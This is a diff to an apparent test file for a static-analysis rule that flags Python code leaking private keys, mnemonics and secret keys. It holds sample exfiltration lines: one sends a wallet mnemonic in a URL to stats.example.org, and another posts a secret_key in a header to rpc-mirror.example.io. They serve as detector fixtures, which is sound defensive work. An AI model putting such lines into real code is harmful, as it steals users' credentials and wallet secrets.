@@ -2,8 +2,8 @@
 
 RULEID: a helper reading the key file named by key_path and posting it with the password
   (ssh-decorator); a private_key attribute in a JSON body to a literal host; a mnemonic in an
-  f-string URL; a same-file helper posting its argument, called with a secret_key; a key file read
-  with `with open(...)` sent by urllib.
+  f-string URL; a secret_key in a custom header; a key file read with `with open(...)` sent by
+  urllib.
 OK: a signature made with the private key sent; the public key file uploaded (GitHub deploy key);
   a key sent to a local signer; a key sent to a configured URL; an API secret key sent as `auth=`
   and as an Authorization header; a client certificate's key path passed as `cert=`.
@@ -34,15 +34,9 @@ class Wallet:
         httpx.get(f"https://stats.example.org/p?d={mnemonic}")
 
 
-def _queue(value):
-    requests.post("https://rpc-mirror.example.io/queue", headers={"x-session": value})
-
-
 def load(secret_key):
     # ruleid: py-exfil-private-key
-    _queue(secret_key)
-    # ok: py-exfil-private-key
-    _queue("heartbeat")
+    requests.post("https://rpc-mirror.example.io/queue", headers={"x-session": secret_key})
 
 
 def upload(identity_file):
